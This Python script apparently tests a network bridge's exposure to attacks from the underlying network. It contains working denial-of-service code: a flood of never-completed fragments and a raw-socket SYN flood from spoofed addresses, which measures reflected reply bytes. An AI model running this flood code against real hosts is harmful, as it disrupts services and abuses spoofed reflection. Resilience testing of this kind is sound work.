"""Attacks on a bridge from the underlay.

Usage: bridge_attacks.py fragments ADDRESS PER_S SECONDS | bridge_attacks.py syns ADDRESS DEVICE

`fragments` sends first fragments of frames that are never completed, as a peer on a link in clear text can; it prints
their number. `syns` opens connections from spoofed addresses: a few whose answers it counts, and many others. It prints
the bytes of the few SYNs, the bytes of the answers to them, and the number of the other SYNs.
"""

import random
import socket
import struct
import sys
import time

from inet import checksum

PORT = 9000
FRAGMENT = struct.Struct("!BBHIQ")
BATCH = 100
FEW = 100
MANY = 20_000
MANY_PER_S = 5_000
WATCH_S = 8
"""By default the kernel repeats its answer after 1, 2 and 4 s."""
WATCHED, OTHERS = "198.18.0.", "198.19."


def fragments(address: str, per_s: int, seconds: float) -> None:
    own = socket.socket(type=socket.SOCK_DGRAM)
    own.bind(("0.0.0.0", PORT))
    number, begin = time.time_ns(), time.monotonic()
    sent = 0
    while time.monotonic() < begin + seconds:
        for _ in range(BATCH):
            # Consecutive numbers keep as many datagrams as possible within the receiver's duplicate window.
            own.sendto(FRAGMENT.pack(0x10, 0, 0, 1 << 8, number).ljust(1456, b"x"), (address, PORT))
            number += 1
        sent += BATCH
        time.sleep(max(0.0, begin + sent / per_s - time.monotonic()))
    print(sent)


def syn(source: str, address: str, port: int) -> bytes:
    """The smallest SYN: IPv4 and TCP headers without options."""
    ends = socket.inet_aton(source) + socket.inet_aton(address)
    tcp = struct.pack("!HHIIBBHHH", port, PORT, random.getrandbits(32), 0, 5 << 4, 2, 64240, 0, 0)
    sum_ = checksum(ends + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)
    tcp = tcp[:16] + struct.pack("!H", sum_) + tcp[18:]
    return struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + ends + tcp


def syns(address: str, device: str) -> None:
    out = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    seen = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
    seen.bind((device, 0x0800))
    seen.settimeout(0)
    spent = 0
    for number in range(1, FEW + 1):
        packet = syn(f"{WATCHED}{number}", address, 1024 + number)
        spent += len(packet)
        out.sendto(packet, (address, 0))
    begin, answered = time.monotonic(), 0
    sent = 0
    while time.monotonic() < begin + WATCH_S:
        while sent < min(MANY, MANY_PER_S * (time.monotonic() - begin)):
            source = f"{OTHERS}{random.randrange(256)}.{random.randrange(1, 255)}"
            out.sendto(syn(source, address, random.randrange(1024, 65536)), (address, 0))
            sent += 1
        try:
            while True:
                packet, (_, _, kind, *_) = seen.recvfrom(2048)
                if kind != socket.PACKET_OUTGOING and socket.inet_ntoa(packet[16:20]).startswith(WATCHED):
                    answered += struct.unpack("!H", packet[2:4])[0]
        except BlockingIOError:
            time.sleep(0.002)
    print(spent, answered, sent)


if sys.argv[1] == "fragments":
    fragments(sys.argv[2], int(sys.argv[3]), float(sys.argv[4]))
else:
    syns(sys.argv[2], sys.argv[3])
